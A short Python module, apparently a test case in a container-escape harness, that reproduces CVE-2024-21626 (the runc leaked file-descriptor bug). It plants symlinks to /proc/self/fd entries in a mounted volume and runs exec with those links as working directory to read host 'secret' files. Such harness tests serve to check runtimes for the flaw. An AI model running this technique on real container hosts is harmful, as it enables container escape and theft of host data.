"""The working directory of an exec is a link in a volume that leads to a descriptor of the runtime's."""

import os

from bypass import Failed, inert

SOURCE = "CVE-2024-21626: attack 2, with a link"
WAY = "exec"
STOPPED = inert("the low-level runtime gets no descriptor but the three standard ones")
BARE = {"runc": "corrected in Debian's 1.1.5"}
NUMBERS = range(3, 12)


def attack(t):
    os.mkdir("/mnt/host/data")
    for number in NUMBERS:
        os.symlink("/proc/self/fd/%d" % number, "/mnt/host/data/%d" % number)
    t.bind("/mnt/host/data", "/x")
    t.up()
    t.leak("/mnt/host")
    found = ""
    for number in NUMBERS:
        try:
            found = found or t.leaked(t.exec("cat ./secret ../secret ../../mnt/host/secret ../../../mnt/host/secret", cwd="/x/%d" % number))
        except Failed:
            pass  # no such descriptor, or one of a file
    return found
